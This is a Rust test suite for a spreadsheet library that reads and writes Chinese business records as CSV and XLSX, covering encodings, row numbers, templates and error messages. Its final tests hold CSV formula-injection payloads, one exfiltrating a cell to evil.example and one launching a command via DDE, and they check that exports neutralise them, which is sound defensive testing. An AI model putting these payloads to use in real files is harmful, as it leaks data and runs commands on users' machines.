//! End-to-end tests: files are written to a temporary directory and read
//! back through the public API, as the import and export code will.

use std::path::{Path, PathBuf};

use calamine::{Data, Reader, open_workbook_auto};
use liancha_sheet::{
    ColumnKind, ColumnSpec, INSTRUCTIONS_SHEET, SheetError, Table, TableWriter, TextEncoding,
    WriteColumn, write_template,
};
use tempfile::TempDir;

const USCC: &str = "91510100MA61R2XK3Q";
/// All digits: the kind of id Excel would turn into 1.10101E+17.
const DIGIT_ID: &str = "110101199003071234";
const TRICKY_NAME: &str = "成都市“锦江”区某某餐饮, 有限公司\"总店\"\n（二号门）";

fn export_columns() -> Vec<WriteColumn> {
    vec![
        WriteColumn::text("统一社会信用代码"),
        WriteColumn::text("证件号码"),
        WriteColumn::text("企业名称"),
        WriteColumn::date("成立日期"),
        WriteColumn::integer("从业人数"),
        WriteColumn::bool("是否重点监管"),
    ]
}

fn export_rows() -> Vec<[&'static str; 6]> {
    vec![
        [USCC, DIGIT_ID, TRICKY_NAME, "2024-01-31", "120", "true"],
        [
            "92510104MA6CX0XX1A",
            "000123",
            "张三便利店",
            "2019-12-01",
            "3",
            "否",
        ],
        ["", "", "只有名称", "", "", ""],
    ]
}

fn write_export(path: &Path) {
    let mut writer = TableWriter::create(path, &export_columns()).unwrap();
    for row in export_rows() {
        writer.write_row(row).unwrap();
    }
    assert_eq!(writer.rows_written(), 3);
    writer.finish().unwrap();
}

fn read_all(table: &mut Table) -> Vec<(u64, Vec<String>)> {
    table
        .records()
        .map(|r| {
            let r = r.unwrap();
            (r.row(), r.to_vec())
        })
        .collect()
}

fn temp_file(dir: &TempDir, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

fn check_export_read_back(table: &mut Table) {
    assert_eq!(
        table.headers(),
        [
            "统一社会信用代码",
            "证件号码",
            "企业名称",
            "成立日期",
            "从业人数",
            "是否重点监管"
        ]
    );
    assert_eq!(table.header_row(), 1);
    let rows = read_all(table);
    assert_eq!(rows.len(), 3);
    // A multi-line cell stays one Excel row, so the next record is row 3.
    assert_eq!(rows.iter().map(|r| r.0).collect::<Vec<_>>(), [2, 3, 4]);
    assert_eq!(
        rows[0].1,
        [USCC, DIGIT_ID, TRICKY_NAME, "2024-01-31", "120", "是"]
    );
    assert_eq!(
        rows[1].1,
        [
            "92510104MA6CX0XX1A",
            "000123",
            "张三便利店",
            "2019-12-01",
            "3",
            "否"
        ]
    );
    assert_eq!(rows[2].1[2], "只有名称");
}

#[test]
fn csv_round_trip_keeps_ids_and_chinese() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("导出.csv");
    write_export(&path);

    let bytes = std::fs::read(&path).unwrap();
    assert!(
        bytes.starts_with(b"\xef\xbb\xbf"),
        "CSV must carry a UTF-8 BOM"
    );
    assert!(bytes.windows(2).any(|w| w == b"\r\n"), "RFC 4180 line ends");

    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.file_name(), "导出.csv");
    assert_eq!(table.encoding(), Some(TextEncoding::Utf8Bom));
    assert_eq!(table.delimiter(), Some(','));
    check_export_read_back(&mut table);
}

#[test]
fn xlsx_round_trip_keeps_ids_as_text_cells() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("export.xlsx");
    write_export(&path);

    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.sheet_name(), Some("Sheet1"));
    assert_eq!(table.encoding(), None);
    check_export_read_back(&mut table);

    // The stored cell types, not just the text we get back.
    let mut workbook = open_workbook_auto(&path).unwrap();
    let range = workbook.worksheet_range("Sheet1").unwrap();
    assert_eq!(range.get((1, 0)), Some(&Data::String(USCC.to_owned())));
    assert_eq!(range.get((1, 1)), Some(&Data::String(DIGIT_ID.to_owned())));
    assert_eq!(range.get((2, 1)), Some(&Data::String("000123".to_owned())));
    assert!(matches!(range.get((1, 3)), Some(Data::DateTime(_))));
    assert!(matches!(
        range.get((1, 4)),
        Some(Data::Float(_) | Data::Int(_))
    ));
    assert_eq!(range.get((1, 5)), Some(&Data::String("是".to_owned())));
}

#[test]
fn xlsx_export_marks_id_columns_as_text_format() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("fmt.xlsx");
    write_export(&path);
    // Frozen header, autofilter over all rows, column formats and widths.
    let sheet = unzip_entry(&path, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<pane ySplit=\"1\""), "header row frozen");
    assert!(
        sheet.contains("<autoFilter ref=\"A1:F4\""),
        "autofilter over data"
    );
    assert!(sheet.contains("<cols>"), "column widths and formats");
    // The id cells carry the built-in text format 49 (`@`), not just a
    // string type: Excel keeps anything typed over them as text too.
    let styles = unzip_entry(&path, "xl/styles.xml");
    let xfs = &styles[styles.find("<cellXfs").unwrap()..styles.find("</cellXfs>").unwrap()];
    let xfs: Vec<&str> = xfs.split("<xf ").skip(1).collect();
    for cell in ["A2", "B2", "B3", "C2"] {
        let pattern = format!("<c r=\"{cell}\" s=\"");
        let start = sheet.find(&pattern).unwrap() + pattern.len();
        let style: usize = sheet[start..].split('"').next().unwrap().parse().unwrap();
        assert!(
            xfs[style].starts_with("numFmtId=\"49\""),
            "{cell}: {}",
            xfs[style]
        );
    }
}

/// The XML of one part of an XLSX package, for checks calamine cannot make
/// (number formats, frozen panes, filters, validations).
fn unzip_entry(path: &Path, entry: &str) -> String {
    use std::io::Read;
    let mut archive = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
    let mut xml = String::new();
    archive
        .by_name(entry)
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn gb18030_csv_reads_chinese_intact() {
    let dir = TempDir::new().unwrap();
    let text = "统一社会信用代码,企业名称,法定代表人\r\n\
                91510100MA61R2XK3Q,成都市锦江区张三便利店,张三\r\n\
                92510104MA6CX0XX1A,四川省某某检测有限公司,欧阳䶮\r\n";
    let (bytes, _, unmappable) = encoding_rs::GB18030.encode(text);
    assert!(!unmappable);
    assert!(std::str::from_utf8(&bytes).is_err(), "really not UTF-8");
    let path = temp_file(&dir, "gbk.csv", &bytes);

    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Gb18030));
    assert_eq!(
        table.headers(),
        ["统一社会信用代码", "企业名称", "法定代表人"]
    );
    let rows = read_all(&mut table);
    assert_eq!(
        rows[0],
        (
            2,
            vec![USCC.into(), "成都市锦江区张三便利店".into(), "张三".into()]
        )
    );
    assert_eq!(rows[1].1[2], "欧阳䶮");
    assert_eq!(rows[1].0, 3);
}

#[test]
fn utf8_bom_csv_reads_correctly() {
    let dir = TempDir::new().unwrap();
    let mut bytes = b"\xef\xbb\xbf".to_vec();
    bytes.extend_from_slice("名称,代码\n张三,001\n".as_bytes());
    let path = temp_file(&dir, "bom.csv", &bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Utf8Bom));
    // The BOM must not stick to the first header.
    assert_eq!(table.headers(), ["名称", "代码"]);
    assert!(table.find_column(&["名称"]).unwrap().is_some());
    assert_eq!(
        read_all(&mut table),
        [(2, vec!["张三".into(), "001".into()])]
    );
}

#[test]
fn utf8_without_bom_csv_reads_correctly() {
    let dir = TempDir::new().unwrap();
    let path = temp_file(&dir, "plain.csv", "名称,代码\n张三,001\n".as_bytes());
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Utf8));
    assert_eq!(
        read_all(&mut table),
        [(2, vec!["张三".into(), "001".into()])]
    );
}

fn utf16le_with_bom(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xff, 0xfe];
    for unit in text.encode_utf16() {
        bytes.extend_from_slice(&unit.to_le_bytes());
    }
    bytes
}

#[test]
fn utf16le_unicode_text_reads_correctly() {
    let dir = TempDir::new().unwrap();
    // Excel's “Unicode 文本”: UTF-16LE with BOM, tab separated, CRLF.
    let bytes = utf16le_with_bom("统一社会信用代码\t名称\r\n91510100MA61R2XK3Q\t成都𠀀商行\r\n");
    let path = temp_file(&dir, "unicode.txt", &bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Utf16Le));
    assert_eq!(table.delimiter(), Some('\t'));
    assert_eq!(table.headers(), ["统一社会信用代码", "名称"]);
    assert_eq!(
        read_all(&mut table),
        [(2, vec![USCC.into(), "成都𠀀商行".into()])]
    );
}

#[test]
fn utf16be_with_bom_reads_correctly() {
    let dir = TempDir::new().unwrap();
    let mut bytes = vec![0xfe, 0xff];
    for unit in "名称,代码\n李四,9\n".encode_utf16() {
        bytes.extend_from_slice(&unit.to_be_bytes());
    }
    let path = temp_file(&dir, "be.csv", &bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Utf16Be));
    assert_eq!(read_all(&mut table), [(2, vec!["李四".into(), "9".into()])]);
}

#[test]
fn csv_row_numbers_match_excel() {
    let dir = TempDir::new().unwrap();
    for newline in ["\n", "\r\n"] {
        let text = [
            "",                     // 1: blank line before the header
            "名称,代码",            // 2: header
            "甲,1",                 // 3
            "",                     // 4: blank
            "   ",                  // 5: whitespace only
            ",,",                   // 6: only separators
            "\"乙",                 // 7: quoted cell with a line break…
            "续\",2",               //    …stays in row 7, as Excel shows it
            "\u{3000}丙\u{3000},3", // 8
            "",                     // 9
            "丁,4",                 // 10, no newline at end of file
        ]
        .join(newline);
        let path = temp_file(&dir, "rows.csv", text.as_bytes());
        let mut table = Table::open(&path).unwrap();
        assert_eq!(table.header_row(), 2, "newline {newline:?}");
        let rows = read_all(&mut table);
        let numbers: Vec<u64> = rows.iter().map(|r| r.0).collect();
        assert_eq!(numbers, [3, 7, 8, 10], "newline {newline:?}");
        assert_eq!(rows[1].1[0], format!("乙{newline}续"));
        assert_eq!(rows[2].1[0], "丙", "full-width spaces trimmed");
        assert_eq!(rows[3].1, ["丁", "4"]);
    }
}

#[test]
fn gb18030_row_numbers_match_excel_too() {
    let dir = TempDir::new().unwrap();
    let (bytes, _, _) = encoding_rs::GB18030.encode("名称,代码\r\n\r\n甲,1\r\n\r\n\r\n乙,2\r\n");
    let path = temp_file(&dir, "gbrows.csv", &bytes);
    let mut table = Table::open(&path).unwrap();
    let numbers: Vec<u64> = read_all(&mut table).iter().map(|r| r.0).collect();
    assert_eq!(numbers, [3, 6]);
}

#[test]
fn xlsx_row_numbers_match_excel() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("rows.xlsx");
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    // Row 1 blank, header in row 2 starting at column B, blank row 4.
    sheet.write_string(1, 1, "名称").unwrap();
    sheet.write_string(1, 2, "代码").unwrap();
    sheet.write_string(2, 1, "甲").unwrap();
    sheet.write_string(2, 2, "001").unwrap();
    sheet.write_string(4, 1, "乙").unwrap();
    sheet.write_string(5, 2, "\u{3000}").unwrap(); // blank after trimming
    sheet.write_string(6, 1, "丙").unwrap();
    workbook.save(&path).unwrap();

    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.header_row(), 2);
    let code = table.require_column(&["代码"]).unwrap();
    assert_eq!(
        code.letter(),
        "C",
        "letters follow the sheet, not the range"
    );
    assert_eq!(code.cell_ref(3), "C3");
    let rows = read_all(&mut table);
    assert_eq!(rows.iter().map(|r| r.0).collect::<Vec<_>>(), [3, 5, 7]);
    assert_eq!(rows[0].1, ["甲", "001"]);
}

#[test]
fn xlsx_cells_render_like_excel() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("types.xlsx");
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    for (c, h) in ["整数", "小数", "日期", "日期时间", "布尔", "文本", "长数字"]
        .iter()
        .enumerate()
    {
        sheet.write_string(0, c as u16, *h).unwrap();
    }
    let date_format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd");
    let datetime_format = rust_xlsxwriter::Format::new().set_num_format("yyyy-mm-dd hh:mm");
    sheet.write_number(1, 0, 42.0).unwrap();
    sheet.write_number(1, 1, 0.1 + 0.2).unwrap();
    let date = rust_xlsxwriter::ExcelDateTime::from_ymd(2024, 2, 29).unwrap();
    sheet
        .write_datetime_with_format(1, 2, &date, &date_format)
        .unwrap();
    let datetime = rust_xlsxwriter::ExcelDateTime::parse_from_str("2024-03-01 08:30:00").unwrap();
    sheet
        .write_datetime_with_format(1, 3, &datetime, &datetime_format)
        .unwrap();
    sheet.write_boolean(1, 4, true).unwrap();
    sheet.write_string(1, 5, "\u{3000} 成都\u{3000}").unwrap();
    sheet.write_number(1, 6, 13800138000.0).unwrap();
    sheet.write_boolean(2, 4, false).unwrap();
    workbook.save(&path).unwrap();

    let mut table = Table::open(&path).unwrap();
    let rows = read_all(&mut table);
    assert_eq!(
        rows[0].1,
        [
            "42",
            "0.3",
            "2024-02-29",
            "2024-03-01 08:30:00",
            "是",
            "成都",
            "13800138000"
        ]
    );
    assert_eq!(rows[1].1, ["", "", "", "", "否"]);
}

#[test]
fn unclosed_quote_is_reported_with_its_row() {
    let dir = TempDir::new().unwrap();
    let text = "名称,代码\n甲,1\n\"乙,2\n丙,3\n丁,4\n";
    let path = temp_file(&dir, "broken.csv", text.as_bytes());
    let mut table = Table::open(&path).unwrap();
    let results: Vec<_> = table.records().collect();
    assert_eq!(
        results.len(),
        2,
        "the good row, then the error, then nothing"
    );
    assert_eq!(results[0].as_ref().unwrap().row(), 2);
    let err = results[1].as_ref().unwrap_err();
    assert!(
        matches!(err, SheetError::MalformedCsv { row: 3, .. }),
        "{err:?}"
    );
    assert_eq!(err.row(), Some(3));
    let message = err.to_string();
    assert!(
        message.starts_with("文件 broken.csv 第 3 行："),
        "{message}"
    );
    assert!(message.contains("引号"), "{message}");
}

#[test]
fn unclosed_quote_in_transcoded_file_is_reported() {
    let dir = TempDir::new().unwrap();
    let (bytes, _, _) = encoding_rs::GB18030.encode("名称,代码\r\n甲,1\r\n乙,2\r\n丙,\"3\r\n");
    let path = temp_file(&dir, "broken-gbk.csv", &bytes);
    let mut table = Table::open(&path).unwrap();
    let results: Vec<_> = table.records().collect();
    assert_eq!(results.len(), 3);
    assert_eq!(results[2].as_ref().unwrap_err().row(), Some(4));
}

#[test]
fn well_formed_last_row_without_newline_is_not_an_error() {
    let dir = TempDir::new().unwrap();
    let path = temp_file(
        &dir,
        "ok.csv",
        "名称,备注\n甲,\"多行\n备注，含\"\"引号\"\"\"".as_bytes(),
    );
    let mut table = Table::open(&path).unwrap();
    let rows = read_all(&mut table);
    assert_eq!(
        rows,
        [(2, vec!["甲".into(), "多行\n备注，含\"引号\"".into()])]
    );
}

#[test]
fn damaged_utf8_is_reported_with_its_row() {
    let dir = TempDir::new().unwrap();
    // Enough valid Chinese before the damage to be sure the file is UTF-8.
    let mut bytes = "名称,代码\n成都市锦江区张三便利店,1\n成都市青羊区李四商行,2\n"
        .as_bytes()
        .to_vec();
    bytes.extend_from_slice(b"\xe4\xb8,3\n");
    let path = temp_file(&dir, "damaged.csv", &bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Utf8));
    let err = table.records().find_map(Result::err).unwrap();
    assert!(
        matches!(err, SheetError::Encoding { row: 4, .. }),
        "{err:?}"
    );
    assert!(err.to_string().contains("第 4 行"));
}

#[test]
fn undecodable_gb18030_is_reported_with_its_row() {
    let dir = TempDir::new().unwrap();
    let (mut bytes, _, _) = encoding_rs::GB18030.encode("名称,代码\n甲,1\n\n乙,2\n");
    let bytes = bytes.to_mut();
    bytes.extend_from_slice(b"\x81\x20,3\n");
    let path = temp_file(&dir, "bad-gbk.csv", bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Gb18030));
    let results: Vec<_> = table.records().collect();
    assert_eq!(results.len(), 3);
    let err = results[2].as_ref().unwrap_err();
    assert!(
        matches!(err, SheetError::Encoding { row: 5, .. }),
        "{err:?}"
    );
}

#[test]
fn column_lookup_by_aliases() {
    let dir = TempDir::new().unwrap();
    let mut header: Vec<String> = (0..26).map(|i| format!("备用{i}")).collect();
    header.push(" 社会信用代码 ".to_owned()); // column AA
    header.push("ＵＳＣＣ备注".to_owned());
    let text = format!("{}\n", header.join(","));
    let path = temp_file(&dir, "aliases.csv", text.as_bytes());
    let table = Table::open(&path).unwrap();

    let column = table
        .require_column(&["统一社会信用代码", "社会信用代码", "USCC"])
        .unwrap();
    assert_eq!(column.index(), 26);
    assert_eq!(column.letter(), "AA");
    assert_eq!(column.header(), "社会信用代码");
    assert_eq!(table.find_column(&["法定代表人"]).unwrap(), None);

    let err = table.require_column(&["法定代表人", "法人"]).unwrap_err();
    let message = err.to_string();
    assert!(message.contains("找不到“法定代表人”列"), "{message}");
    assert!(message.contains("法定代表人、法人"), "{message}");
}

#[test]
fn ambiguous_and_duplicate_headers_are_errors() {
    let dir = TempDir::new().unwrap();
    let path = temp_file(&dir, "amb.csv", "统一社会信用代码,名称,USCC\n".as_bytes());
    let table = Table::open(&path).unwrap();
    let err = table
        .find_column(&["统一社会信用代码", "USCC"])
        .unwrap_err();
    assert!(matches!(err, SheetError::AmbiguousColumn { .. }));
    assert!(
        err.to_string()
            .contains("A 列“统一社会信用代码”、C 列“USCC”"),
        "{err}"
    );

    let path = temp_file(&dir, "dup.csv", "名称,代码,名称 \n".as_bytes());
    let err = Table::open(&path).unwrap_err();
    assert_eq!(
        err.to_string(),
        "文件 dup.csv 第 1 行（表头）：列名“名称”在 A 列和 C 列重复出现，请删除或改名其中一列"
    );
}

#[test]
fn semicolon_and_tab_separators_are_detected() {
    let dir = TempDir::new().unwrap();
    let path = temp_file(&dir, "semi.csv", "名称;代码\n甲;1\n".as_bytes());
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.delimiter(), Some(';'));
    assert_eq!(read_all(&mut table)[0].1, ["甲", "1"]);

    let path = temp_file(&dir, "tab.tsv", "名称\t代码,备注\n甲\t1,x\n".as_bytes());
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.delimiter(), Some('\t'));
    assert_eq!(read_all(&mut table)[0].1, ["甲", "1,x"]);
}

#[test]
fn text_saved_as_xls_is_read_as_text() {
    let dir = TempDir::new().unwrap();
    let (bytes, _, _) = encoding_rs::GB18030.encode("名称\t代码\r\n甲\t001\r\n");
    let path = temp_file(&dir, "legacy.xls", &bytes);
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.encoding(), Some(TextEncoding::Gb18030));
    assert_eq!(read_all(&mut table), [(2, vec!["甲".into(), "001".into()])]);

    let path = temp_file(
        &dir,
        "page.xls",
        b"<html><table><tr><td>x</td></tr></table></html>",
    );
    let err = Table::open(&path).unwrap_err();
    assert!(err.to_string().contains("网页"), "{err}");
}

#[test]
fn workbook_renamed_to_csv_is_still_read() {
    let dir = TempDir::new().unwrap();
    let xlsx = dir.path().join("real.xlsx");
    write_export(&xlsx);
    let renamed = dir.path().join("renamed.csv");
    std::fs::rename(&xlsx, &renamed).unwrap();
    let mut table = Table::open(&renamed).unwrap();
    assert_eq!(table.sheet_name(), Some("Sheet1"));
    check_export_read_back(&mut table);
}

#[test]
fn tables_can_move_to_worker_threads() {
    fn assert_send<T: Send>() {}
    assert_send::<Table>();
    assert_send::<TableWriter>();
    assert_send::<SheetError>();
}

#[test]
fn bad_inputs_get_clerk_readable_errors() {
    let dir = TempDir::new().unwrap();
    let path = temp_file(&dir, "list.pdf", b"%PDF");
    let err = Table::open(&path).unwrap_err();
    assert!(matches!(err, SheetError::UnsupportedFormat { .. }));
    assert!(err.to_string().contains(".pdf"));

    let path = temp_file(&dir, "empty.csv", b"");
    assert!(matches!(Table::open(&path), Err(SheetError::Empty { .. })));
    let path = temp_file(&dir, "blank.csv", b"\r\n , \r\n\r\n");
    assert!(matches!(Table::open(&path), Err(SheetError::Empty { .. })));

    let path = temp_file(&dir, "garbage.xlsx", b"PK\x03\x04not really a zip");
    let err = Table::open(&path).unwrap_err();
    assert!(matches!(err, SheetError::NotExcel { .. }), "{err:?}");
    assert!(
        err.to_string()
            .starts_with("无法打开 Excel 文件 garbage.xlsx：")
    );

    let err = Table::open(dir.path().join("missing.csv")).unwrap_err();
    assert!(matches!(err, SheetError::Io { .. }));
    assert!(err.to_string().starts_with("无法读取文件 missing.csv："));
}

#[test]
fn from_reader_reads_uploads_in_memory() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("up.xlsx");
    write_export(&path);
    let bytes = std::fs::read(&path).unwrap();
    drop(dir);
    let mut table = Table::from_reader("上传.xlsx", std::io::Cursor::new(bytes)).unwrap();
    assert_eq!(table.file_name(), "上传.xlsx");
    check_export_read_back(&mut table);

    let mut table = Table::from_reader(
        "上传.csv",
        std::io::Cursor::new("名称,代码\n甲,1\n".as_bytes().to_vec()),
    )
    .unwrap();
    assert_eq!(read_all(&mut table), [(2, vec!["甲".into(), "1".into()])]);
}

fn template_columns() -> Vec<ColumnSpec> {
    let many: Vec<String> = (1..=60).map(|i| format!("检查事项第{i}项")).collect();
    vec![
        ColumnSpec::new("统一社会信用代码")
            .required(true)
            .description("18 位统一社会信用代码，请按文本填写")
            .example(USCC),
        ColumnSpec::new("企业名称")
            .required(true)
            .description("营业执照上的名称")
            .example("成都市锦江区张三便利店"),
        ColumnSpec::new("成立日期")
            .kind(ColumnKind::Date)
            .description("营业执照上的成立日期")
            .example("2019-12-01"),
        ColumnSpec::new("是否重点监管").kind(ColumnKind::Bool),
        ColumnSpec::new("行业类别")
            .required(true)
            .allowed(["餐饮", "食品销售", "药品零售"]),
        ColumnSpec::new("检查事项").allowed(many),
        ColumnSpec::new("检查方式").allowed(["现场检查", "书面检查,网络核查"]),
    ]
}

#[test]
fn template_has_header_sheet_and_instructions() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("市场主体导入模板.xlsx");
    write_template(&path, "市场主体", &template_columns()).unwrap();

    let workbook = open_workbook_auto(&path).unwrap();
    let names = workbook.sheet_names();
    assert_eq!(names[..2], ["市场主体", INSTRUCTIONS_SHEET]);

    // The data sheet is what an import of the filled template reads first.
    let mut table = Table::open(&path).unwrap();
    assert_eq!(table.sheet_name(), Some("市场主体"));
    assert_eq!(
        table.headers(),
        [
            "统一社会信用代码",
            "企业名称",
            "成立日期",
            "是否重点监管",
            "行业类别",
            "检查事项",
            "检查方式"
        ]
    );
    assert_eq!(table.records().count(), 0);

    let mut help = Table::open_sheet(&path, INSTRUCTIONS_SHEET).unwrap();
    assert_eq!(
        help.headers(),
        ["列名", "必填/选填", "说明", "示例", "可选值", "格式"]
    );
    let rows = read_all(&mut help);
    assert_eq!(rows.len(), 7);
    assert_eq!(
        rows[0].1[..4],
        [
            "统一社会信用代码",
            "必填",
            "18 位统一社会信用代码，请按文本填写",
            USCC
        ]
    );
    assert_eq!(rows[2].1[1], "选填");
    assert_eq!(rows[3].1[4], "是、否");
    assert_eq!(rows[4].1[4], "餐饮、食品销售、药品零售");

    let sheet = unzip_entry(&path, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<dataValidation"), "drop-downs present");
    assert!(sheet.contains("\"餐饮,食品销售,药品零售\""), "inline list");
    assert!(
        sheet.contains("'可选值'!$A$1:$A$60"),
        "long list by reference"
    );
    assert!(sheet.contains("<pane ySplit=\"1\""), "header row frozen");
    // Notes on the headers live in a comments part.
    let comments = unzip_entry(&path, "xl/comments1.xml");
    assert!(
        comments.contains("【必填】18 位统一社会信用代码"),
        "header note"
    );
}

#[test]
fn template_and_writer_reject_other_extensions() {
    let dir = TempDir::new().unwrap();
    let err = write_template(dir.path().join("t.csv"), "x", &template_columns()).unwrap_err();
    assert!(matches!(err, SheetError::UnsupportedFormat { .. }));
    let err = TableWriter::create(dir.path().join("t.ods"), &export_columns())
        .err()
        .unwrap();
    assert!(matches!(err, SheetError::UnsupportedFormat { .. }));
}

#[test]
fn writer_rejects_rows_wider_than_header() {
    let dir = TempDir::new().unwrap();
    for name in ["w.csv", "w.xlsx"] {
        let mut writer =
            TableWriter::create(dir.path().join(name), &[WriteColumn::text("名称")]).unwrap();
        let err = writer.write_row(["甲", "多余"]).unwrap_err();
        assert!(err.to_string().contains("第 2 行"), "{err}");
    }
}

/// Values a spreadsheet would evaluate, one for each character that starts
/// a formula, plus one already quoted.
const FORMULAS: [&str; 7] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
];

#[test]
fn csv_exports_neutralise_formulas_in_every_column_kind() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("inject.csv");
    let columns = export_columns();
    let mut writer = TableWriter::create(&path, &columns).unwrap();
    for value in FORMULAS {
        writer
            .write_row(std::iter::repeat_n(value, columns.len()))
            .unwrap();
    }
    // Legitimate numbers in the integer column stay numbers.
    writer.write_row(["-", "-", "-", "", "-5", ""]).unwrap();
    writer.finish().unwrap();

    let bytes = std::fs::read(&path).unwrap();
    let body = std::str::from_utf8(&bytes[3..]).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(body.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for (row, value) in rows.iter().zip(FORMULAS) {
        for field in row {
            assert_eq!(field, format!("'{value}"), "{value:?}");
        }
    }
    let last = &rows[FORMULAS.len()];
    assert_eq!(&last[0], "'-", "text that looks like a sign is text");
    assert_eq!(&last[4], "-5", "an integer stays a number");
    // Neutralised fields are quoted, so the prefix and the value stay one
    // cell whatever a spreadsheet trims.
    assert!(body.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点击\"\")\","));
    assert!(body.contains(",\"'-2+3\","));
    assert!(body.contains("\"'\t=1+1\""));

    // Imported back, the values are what was exported.
    let mut table = Table::open(&path).unwrap();
    let back = read_all(&mut table);
    for ((_, cells), value) in back.iter().zip(FORMULAS) {
        let expected = value.trim_start_matches(['\t', '\r']);
        assert_eq!(cells[2], expected, "{value:?}");
    }
}

#[test]
fn xlsx_exports_write_formula_text_as_strings() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("inject.xlsx");
    let columns = export_columns();
    let mut writer = TableWriter::create(&path, &columns).unwrap();
    for value in FORMULAS {
        writer
            .write_row(std::iter::repeat_n(value, columns.len()))
            .unwrap();
    }
    writer.finish().unwrap();
    let xml = unzip_entry(&path, "xl/worksheets/sheet1.xml");
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "no formula cells"
    );
    let mut table = Table::open(&path).unwrap();
    for ((_, cells), value) in read_all(&mut table).iter().zip(FORMULAS) {
        assert_eq!(cells[0], value.trim_start_matches(['\t', '\r']));
    }
}
